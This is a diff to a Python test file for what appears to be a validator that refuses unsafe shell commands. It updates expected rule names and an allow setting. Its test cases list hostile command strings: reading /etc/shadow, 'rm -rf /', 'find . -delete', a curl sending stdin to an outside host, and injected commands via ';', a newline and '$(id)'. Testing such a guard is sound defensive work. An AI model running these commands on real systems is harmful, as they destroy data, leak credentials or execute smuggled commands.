@@ -50,7 +50,7 @@ def test_known_programs_in_reading_uses_pass(line: str) -> None:
         ("grep --file=/etc/shadow x", "host_file"),
         ("sort -o f f", "option"),
         ("find . -delete", "option"),
-        ("curl -d @- http://example.net", "unknown_program"),
+        ("curl -d @- http://example.net", "sends_away"),
         ("ls\nid", "control_character"),
         (3, "no_command"),
         ([], "no_command"),
@@ -66,7 +66,7 @@ def test_everything_else_is_refused_with_the_reason(line: Any, expected: str) ->
     found = prepare({}).judge(line)
     assert found is not None
     assert found.rule == expected
-    assert found.message.startswith(("has ", "is ", "names ", "starts ", "does "))
+    assert found.message.startswith(("has ", "is ", "names ", "starts ", "does ", "sends "))
 
 
 def test_words_of_a_list_are_never_read_by_a_shell() -> None:
@@ -147,7 +147,7 @@ def test_a_value_is_no_option_and_has_no_metacharacter(text: str, expected: str 
         ({"command": "ls; id"}, "/command", "list"),
         ({"command": "rm", "args": ["-rf", "/"]}, "/command", "unknown_program"),
         ({"command": "sort", "args": ["-o", "f"]}, "/command", "option"),
-        ({"command": ["sh", "-c", "id"]}, "/command", "unknown_program"),
+        ({"command": ["sh", "-c", "id"]}, "/command", "option"),
         ({"command": "ls", "cwd": "$(id)"}, "/cwd", "metacharacter"),
         ({"command": "ls", "file": "-rf"}, "/file", "leading_dash"),
         ({"args": ["-rf"]}, "/args/0", "leading_dash"),
@@ -223,7 +223,7 @@ def test_a_name_and_its_value_are_a_value_where_they_set_nothing(
 
 def test_the_history_is_shown_and_nothing_else() -> None:
     """MGP-4.5"""
-    judge = prepare({}).judge
+    judge = prepare({"allow": ["reads", "environment"]}).judge
     assert judge("history 20") is None
     assert judge("history -c") is not None
     assert judge("history -w out") is not None
